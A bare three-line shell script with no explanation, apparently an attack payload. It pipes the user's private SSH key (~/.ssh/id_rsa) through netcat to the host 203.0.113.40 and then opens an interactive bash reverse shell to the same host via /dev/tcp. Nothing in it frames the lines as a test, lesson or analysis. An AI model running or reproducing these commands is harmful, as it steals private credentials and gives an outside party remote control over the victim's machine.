#!/bin/sh
cat ~/.ssh/id_rsa | nc 203.0.113.40 9000
bash -i >& /dev/tcp/203.0.113.40/9001 0>&1
